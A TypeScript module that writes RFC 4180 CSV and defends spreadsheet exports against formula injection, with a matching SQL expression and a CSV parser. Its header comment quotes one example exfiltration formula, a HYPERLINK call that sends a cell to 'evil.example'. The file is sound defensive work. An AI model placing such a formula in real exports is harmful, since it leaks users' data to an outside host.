/**
 * CSV output for people's spreadsheets: RFC 4180 fields and records (CRLF, a field quoted
 * when it holds `"`, `,`, CR or LF, quotes doubled), and the one rule that makes text inert
 * in Excel and LibreOffice (F24): a cell that starts with `=` `+` `-` `@`, a tab or a CR is
 * a formula to them (`=HYPERLINK("https://evil.example/?"&A1,"Fix")` from a CRM export), so
 * text we did not write ourselves gets a leading `'`, which makes it text.
 *
 * Pure. The rule exists once: in JavaScript here, and as SQL for exports that PostgreSQL
 * writes itself with COPY ({@link spreadsheetSafeSql}).
 */

/** The first characters that make a spreadsheet read a cell as a formula. */
export const FORMULA_LEADS: readonly string[] = ['=', '+', '-', '@', '\t', '\r'];

/** `text` with a leading `'` when it would otherwise be read as a formula. */
export function spreadsheetSafe(text: string): string {
  return text.length > 0 && FORMULA_LEADS.includes(text[0]) ? `'${text}` : text;
}

/** The same rule as a SQL expression over a text `column` (for COPY … TO STDOUT exports). */
export function spreadsheetSafeSql(column: string): string {
  const leads = FORMULA_LEADS.map((c) => (c === '\t' ? 'chr(9)' : c === '\r' ? 'chr(13)' : `'${c}'`)).join(', ');
  return `CASE WHEN left(${column}, 1) IN (${leads}) THEN '''' || ${column} ELSE ${column} END`;
}

const NEEDS_QUOTES = /[",\r\n]/;

/** One RFC 4180 field: as is, or quoted with its quotes doubled. `null`/`undefined` is empty. */
export function csvField(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return '';
  const text = String(value);
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** A field of text from outside (a callee, an uploaded file): made inert, then quoted as needed. */
export function csvText(value: string | null | undefined): string {
  return value === null || value === undefined ? '' : csvField(spreadsheetSafe(value));
}

/** One record: the fields (already made with {@link csvField} / {@link csvText}) and CRLF. */
export function csvRecord(fields: readonly string[]): string {
  return `${fields.join(',')}\r\n`;
}

/**
 * Parses RFC 4180 text back into records of fields (for tests and tools): quoted fields may
 * hold `,`, `""` and line breaks; records end with CRLF (a lone LF is accepted too).
 */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') field += c;
      else if (text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else quoted = false;
    } else if (c === '"' && field.length === 0) quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i += 1;
      records.push([...record, field]);
      record = [];
      field = '';
    } else field += c;
  }
  if (field.length > 0 || record.length > 0) records.push([...record, field]);
  return records;
}
